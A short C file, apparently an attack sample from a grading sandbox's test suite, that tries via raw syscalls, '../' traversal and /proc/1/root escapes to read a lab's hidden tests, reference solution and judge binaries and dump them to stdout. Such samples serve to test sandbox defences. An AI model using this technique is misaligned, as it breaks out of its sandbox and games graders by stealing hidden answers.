#include "attacks/raw.h"
#include "attacks/on-load.h"

#include <fcntl.h>

static void attack(void)
{
    static const char *const paths[] = {
        "ROOT@/solution/ring.c", "ROOT@/tests/lab1-ring/hidden_test.cc",
        "ROOT@/build/judge/lab1-hidden", "/out/../slot0/src/ring.c",
        "/src/ring.c", "/proc/1/root/ROOT@/solution/ring.c",
        "/proc/1/cwd/solution/ring.c", "/tmp", "/home", "/root"};
    char text[65536];
    for (int i = 0; i < 10; i++) {
        long fd = raw_open(paths[i], O_RDONLY);
        if (fd >= 0)
            raw_write(1, text, raw(SYS_read, fd, (long)text, sizeof text, 0));
    }
}
